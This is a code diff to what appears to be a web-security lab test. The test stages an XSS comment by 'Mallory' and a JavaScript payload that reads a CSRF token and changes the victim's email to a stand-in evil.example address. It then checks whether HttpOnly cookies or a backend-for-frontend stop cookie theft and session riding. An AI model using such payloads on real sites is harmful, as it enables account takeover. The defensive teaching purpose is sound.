@@ -5,7 +5,14 @@ from __future__ import annotations
 import json
 import time
 
-from labserver.kit.browser.people import USER, comment, log_in_at_app, log_in_at_site
+from labserver.kit.browser.people import (
+    USER,
+    comment,
+    log_in_at_app,
+    log_in_at_bff,
+    log_in_at_site,
+)
+from labserver.kit.browser.tab import Tab
 from labserver.kit.browser.web import EVIL, Web
 from labserver.kit.lab import Lab
 
@@ -29,10 +36,10 @@ send();
 """The comment that Mallory leaves: it reads what can be read, and puts itself in front of `fetch`."""
 
 RIDE = """async () => {
-  const me = await (await fetch("../session/me")).json();
+  const me = await (await fetch("../FLOW/me")).json();
   const headers = { "Content-Type": "application/json", "X-CSRF-Token": me.csrf_token };
   const body = JSON.stringify({ email: "mallory@evil.example" });
-  return (await fetch("../session/email", { method: "POST", headers, body })).status;
+  return (await fetch("../FLOW/email", { method: "POST", headers, body })).status;
 }"""
 """What a script does without reading any credential: the browser adds the cookie."""
 
@@ -55,11 +62,15 @@ class Thief:
         """Begin anew."""
         self._seen = len(self._web.sites.recorded()["loot"])
 
+    def so_far(self) -> str:
+        """Return all that has come."""
+        return "\n".join(self._web.sites.recorded()["loot"][self._seen :])
+
     def loot(self, word: str = "") -> str:
         """Wait until something with this word has come, and return all; after a while, what there is."""
         end = time.monotonic() + STOLEN_SECONDS
         while True:
-            found = "\n".join(self._web.sites.recorded()["loot"][self._seen :])
+            found = self.so_far()
             if (found and word in found) or time.monotonic() > end:
                 return found
             time.sleep(0.02)
@@ -89,7 +100,7 @@ def script_gets(web: Web) -> dict[str, dict[str, bool]]:
     tab = log_in_at_site(web, lab)
     sid = web.browser.jar(web.address("/", lab))["sid"]["value"]
     loot = thief.loot()
-    acts = tab.script(RIDE) == 200 and _email(lab) == "mallory@evil.example"
+    acts = rides(tab, lab, "session")
     found = {"HttpOnly cookie": _row(sid in loot, sid in loot, acts)}
     tab.script("document.cookie = 'plain=a-credential; Path=/'")
     thief.forget()
@@ -113,13 +124,29 @@ def script_gets(web: Web) -> dict[str, dict[str, bool]]:
     return found
 
 
+def bff_script_gets(web: Web) -> dict[str, bool]:
+    """Let the same script loose on the app whose backend holds the tokens."""
+    lab = plant(web)
+    thief = Thief(web)
+    tab = log_in_at_bff(web, lab)
+    acts = rides(tab, lab, "bff")
+    loot = thief.loot("csrf_token")
+    sid = web.browser.jar(web.address("/", lab))["bff"]["value"]
+    tab.close()
+    return _row(sid in loot, sid in loot or JWT in loot, acts)
+
+
+def rides(tab: Tab, lab: Lab, flow: str) -> bool:
+    """Change Ada's address from a script of the page, without any credential in hand."""
+    lab.user(USER, email="ada@example.org")
+    status = tab.script(RIDE.replace("FLOW", flow))
+    users = {user["username"]: user for user in lab.state().users}
+    return bool(status == 200 and users[USER]["email"] == "mallory@evil.example")
+
+
 JWT = "eyJ"
 """How every JWT begins: `{"` in base64url."""
 
 
 def _row(reads: bool, carries_off: bool, acts: bool) -> dict[str, bool]:
     return {"reads it there": reads, "carries it off": carries_off, "acts as Ada": acts}
-
-
-def _email(lab: Lab) -> str:
-    return str(next(user["email"] for user in lab.state().users if user["username"] == USER))
